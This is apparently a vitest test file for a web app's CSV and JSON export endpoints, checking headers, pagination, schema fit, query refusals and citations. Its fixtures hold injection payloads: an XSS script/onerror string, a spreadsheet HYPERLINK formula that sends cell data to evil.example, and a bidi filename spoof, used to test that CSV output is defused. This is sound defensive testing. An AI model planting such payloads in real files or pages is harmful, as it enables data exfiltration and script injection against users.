import { readFileSync } from "node:fs";
import { join } from "node:path";
import { Ajv2020 } from "ajv/dist/2020.js";
import formats from "ajv-formats";
import { beforeAll, describe, expect, it } from "vitest";
import { GET as exploreCsv } from "@/app/explore.csv/route";
import { GET as exploreJson } from "@/app/explore.json/route";
import { GET as answersCsv } from "@/app/jobs/[jobId]/answers.csv/route";
import { GET as comparisonCsv } from "@/app/jobs/[jobId]/comparison.csv/route";
import { GET as comparisonJson } from "@/app/jobs/[jobId]/comparison.json/route";
import { AnswersExport, ComparisonExport } from "@/schemas/explore-export";
import type { JobId } from "@/schemas/primitives";
import { createPrisma, type Prisma } from "@/server/adapters/db/client";
import { createCaller } from "@/server/api/root";
import { EVERYTHING } from "@/server/domain/explore/query";
import { exploreResponses } from "@/server/services/explore-responses";
import { parseCsv, recordsOf } from "@/test/domain/explore/parse-csv";
import { aFinishedJob } from "@/test/support/a-finished-job";
import { aJobId, KE } from "@/test/support/builders";
import { ownContext } from "@/test/support/context";
import { layDownAnswers, layDownJob } from "@/test/support/laid-down-answers";
import { ROOT } from "@/test/support/run-tool";

const house = ownContext();
const HTML = '<script>alert(1)</script><img src=x onerror="alert(1)">';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click me")';
const BIDI = 'invoice\u202egnp.exe\0 and\r\n"more", with commas';

let finished: JobId;
let tricks: JobId;

beforeAll(async () => {
  Object.assign(globalThis, { [Symbol.for("beacon.context")]: house.context });
  finished = await aFinishedJob(house.context);
  const prisma: Prisma = createPrisma(house.context.env.DATABASE_URL ?? "");
  tricks = await layDownJob(prisma, 200, { title: "-2+3 is a title", simulated: false });
  await layDownAnswers(prisma, tricks, [
    { text: HTML },
    { text: FORMULA },
    { text: BIDI.replaceAll("\0", "\ufffd"), country: KE },
    { state: "timed-out" },
  ]);
  await prisma.$disconnect();
});

const url = (path: string) => new Request(`http://portal.test${path}`);
const csv = (query: string) => exploreCsv(url(`/explore.csv?${query}`));
const json = (query: string) => exploreJson(url(`/explore.json?${query}`));
const documentOf = async (query: string) => AnswersExport.parse(await (await json(query)).json());
const headersOf = ({ headers }: Response) => Object.fromEntries(headers);
const refusal = async (answer: Response) => [answer.status, (await answer.json()).code];

describe("an export of the explorer", () => {
  it("is a file that no browser shows and nobody’s cache keeps", async () => {
    const answer = await csv(`job=${tricks}`);
    expect(answer.status).toBe(200);
    expect(headersOf(answer)).toMatchObject({
      "content-type": "text/csv; charset=utf-8; header=present",
      "content-disposition": expect.stringMatching(
        /^attachment; filename="beacon-answers-\d{8}T\d{6}Z\.csv"$/,
      ),
      "cache-control": "no-cache",
      "x-content-type-options": "nosniff",
    });
    expect(headersOf(await json(""))["content-type"]).toBe("application/json");
  });

  it("says in its name when data is simulated, wholly or in part", async () => {
    const nameOf = async (query: string) => (await csv(query)).headers.get("content-disposition");
    expect(await nameOf(`job=${finished}`)).toContain('Z-simulated.csv"');
    expect(await nameOf("")).toContain('Z-partly-simulated.csv"');
    expect(await nameOf("all=1")).toContain('Z-partly-simulated.csv"');
  });

  it("is what the screen shows, row by row, page by page", async () => {
    const { context } = house;
    let cursor = null;
    do {
      const query = { ...EVERYTHING, cursor, limit: 2 };
      const page = await exploreResponses(context, query);
      const text = `limit=2${cursor === null ? "" : `&cursor=${cursor}`}`;
      const document = await documentOf(text);
      const ids = page.rows.map(({ taskId }) => taskId);
      expect(document.rows.map(({ task }) => task)).toEqual(ids);
      expect(recordsOf(await (await csv(text)).text()).map(({ task }) => task)).toEqual(ids);
      expect(document.next_url).toBe(
        page.nextCursor === null
          ? null
          : `${context.publicUrl}/explore.json?cursor=${page.nextCursor}&limit=2`,
      );
      cursor = page.nextCursor;
    } while (cursor !== null);
  });

  it("is everything when all of it is asked for", async () => {
    const { rows, next_url } = await documentOf("all=1");
    const { rows: page } = await documentOf("limit=100");
    expect(rows).toEqual(page);
    expect(next_url).toBeNull();
    expect(rows.length).toBeGreaterThanOrEqual(7);
  });

  it("says what was asked, and where the same can be seen", async () => {
    const document = await documentOf(`state=refused&country=KE&country=DE&q=dam`);
    expect(document).toMatchObject({
      version: "1.0",
      query: { q: "dam", country: ["DE", "KE"], state: ["refused"] },
      query_url: `${house.context.publicUrl}/explore?q=dam&country=DE&country=KE&state=refused`,
      rows: [],
      next_url: null,
    });
  });

  it("carries task, log index, content address, permalink and origin of the data in every row", async () => {
    const { rows } = await documentOf(`job=${finished}&state=answered`);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows)
      expect(row).toMatchObject({
        log_index: expect.any(Number),
        cid: expect.stringMatching(/^bafkrei/),
        permalink: `${house.context.publicUrl}/responses/${row.task}`,
        simulated: true,
      });
  });
});

describe("a document", () => {
  it("fits the JSON Schema that is published for it, by a stranger’s validator", async () => {
    const ajv = formats.default(new Ajv2020());
    const fits = async (name: string, answer: Response) => {
      const schema = readFileSync(join(ROOT, "public/schemas", `${name}.schema.json`), "utf8");
      const validate = ajv.compile(JSON.parse(schema));
      return validate(await answer.json()) ? [] : validate.errors;
    };
    expect(await fits("answers-export", await json("all=1"))).toEqual([]);
    const of = { params: Promise.resolve({ jobId: finished }) };
    const comparison = await comparisonJson(url(`/jobs/${finished}/comparison.json`), of);
    expect(await fits("comparison-export", comparison)).toEqual([]);
  });
});

describe("what strangers wrote", () => {
  it("is defused in CSV and unchanged in JSON", async () => {
    const text = await (await csv(`job=${tricks}&state=answered`)).text();
    const [bidi, formula, html] = recordsOf(text);
    expect(html?.answer).toBe(HTML);
    expect(formula?.answer).toBe(`'${FORMULA}`);
    expect(bidi?.answer).toBe('invoice[U+202E]gnp.exe\ufffd and\r\n"more", with commas');
    expect(bidi?.job_title).toBe("'-2+3 is a title");
    expect(text).not.toContain("\u202e");
    for (const record of parseCsv(text))
      for (const cell of record) expect(cell.text).not.toMatch(/^[=+\-@\t\r\n]/);
    const { rows } = await documentOf(`job=${tricks}&state=answered`);
    expect(rows.map(({ answer }) => answer)).toEqual([
      BIDI.replaceAll("\0", "\ufffd"),
      FORMULA,
      HTML,
    ]);
  });

  it("is found by its own letters", async () => {
    const { rows } = await documentOf(`q=${encodeURIComponent("<script>")}`);
    expect(rows.map(({ answer }) => answer)).toEqual([HTML]);
  });
});

describe("a query that is not one", () => {
  it.each([
    "country=XX",
    "sort=asc",
    "limit=0",
    "q=a",
    "all=2",
    "all=1&limit=5",
    "q=%00%00",
    "a=%zz",
  ])("%s is refused, with a code and a sentence", async (query) => {
    for (const ask of [csv, json]) {
      const answer = await ask(query);
      const { code, message } = await answer.json();
      expect([answer.status, code]).toEqual([400, "EXPLORER_QUERY_INVALID"]);
      expect(message).toMatch(/\.$/);
    }
  });
});

describe("an export of a comparison", () => {
  const ask = (route: typeof comparisonCsv, query: string, jobId: string = finished) =>
    route(url(`/jobs/${jobId}/x?${query}`), { params: Promise.resolve({ jobId }) });

  it("is the table and the answers that its page shows", async () => {
    const document = ComparisonExport.parse(await (await ask(comparisonJson, "")).json());
    const caller = createCaller({ ...house.context, actor: null });
    const job = await caller.jobs.byId({ jobId: finished });
    expect(document.table.map(({ country }) => country)).toEqual(job.countries);
    expect(document.comparison).toMatchObject({ job: finished, log_index: job.comparisonIndex });
    const { prompt, service, repeat } = document.query;
    expect(document.query_url).toBe(
      `${house.context.publicUrl}/jobs/${finished}?prompt=${prompt}&service=${service}&repeat=${repeat}`,
    );
    const shown = job.tasks
      .filter(
        (task) =>
          task.prompt === prompt &&
          task.service === service &&
          task.repeat === repeat - 1 &&
          task.state !== null,
      )
      .map(({ id }) => id);
    expect(document.answers.map(({ task }) => task).sort()).toEqual([...shown].sort());
    expect(document.answers.length).toBeGreaterThan(0);
    const query = `prompt=${prompt}&service=${service}&repeat=${repeat}`;
    const table = recordsOf(await (await ask(comparisonCsv, query)).text());
    expect(table.map(({ country }) => country)).toEqual(job.countries);
    const rows = recordsOf(await (await ask(answersCsv, query)).text());
    expect(rows.map(({ task }) => task)).toEqual(document.answers.map(({ task }) => task));
  });

  it("has a name that says what it is and that it is simulated", async () => {
    expect((await ask(comparisonCsv, "")).headers.get("content-disposition")).toMatch(
      /filename="beacon-comparison-job-\w+-[\w-]+-\d{8}T\d{6}Z-simulated\.csv"$/,
    );
    expect((await ask(answersCsv, "")).headers.get("content-disposition")).toContain(
      "beacon-answers-job-",
    );
  });

  it("is refused for what the comparison does not have", async () => {
    for (const route of [comparisonCsv, comparisonJson, answersCsv]) {
      for (const query of ["prompt=none", "service=none", "repeat=99", "repeat=01", "view=all"])
        expect(await refusal(await ask(route, query))).toEqual([400, "EXPLORER_QUERY_INVALID"]);
      expect(await refusal(await ask(route, "", "nonsense"))).toEqual([404, "JOB_NOT_FOUND"]);
      expect(await refusal(await ask(route, "", aJobId(250)))).toEqual([404, "JOB_NOT_FOUND"]);
      expect(await refusal(await ask(route, "", tricks))).toEqual([404, "COMPARISON_NOT_FOUND"]);
    }
  });
});

describe("citations", () => {
  const caller = () => createCaller({ ...house.context, actor: null });

  it("name what is cited as the log has it", async () => {
    const [task] = (await caller().jobs.byId({ jobId: finished })).tasks.filter(
      ({ state }) => state === "answered",
    );
    if (task === undefined) throw new Error("a finished job has answers");
    expect(await caller().citations.byTask({ taskId: task.id })).toMatchObject({
      kind: "response",
      id: task.id,
      title: expect.stringMatching(/^Response of .*, asked from .*, repeat \d+: “/),
      url: `${house.context.publicUrl}/responses/${task.id}`,
      log: { origin: house.context.origin, index: task.leafIndex },
      simulated: true,
    });
    const job = await caller().jobs.byId({ jobId: finished });
    expect(await caller().citations.byJob({ jobId: finished })).toMatchObject({
      kind: "comparison",
      title: `Comparison: ${job.title}`,
      url: `${house.context.publicUrl}/jobs/${finished}`,
      log: { index: job.comparisonIndex },
    });
  });

  it("tell a failure from an answer, and are not made of what is not there", async () => {
    const { tasks } = await caller().jobs.byId({ jobId: finished });
    const failed = tasks.find(({ status }) => status === "FAILED");
    const withdrawn = tasks.find(({ status }) => status === "WITHDRAWN");
    if (failed === undefined || withdrawn === undefined) throw new Error("some tasks fail");
    expect(await caller().citations.byTask({ taskId: failed.id })).toMatchObject({
      kind: "failure",
      title: expect.stringMatching(/^No response of /),
      cid: null,
    });
    expect(await caller().citations.byTask({ taskId: withdrawn.id })).toBeNull();
    expect(await caller().citations.byJob({ jobId: tricks })).toBeNull();
    expect(await caller().citations.byJob({ jobId: aJobId(250) })).toBeNull();
  });
});
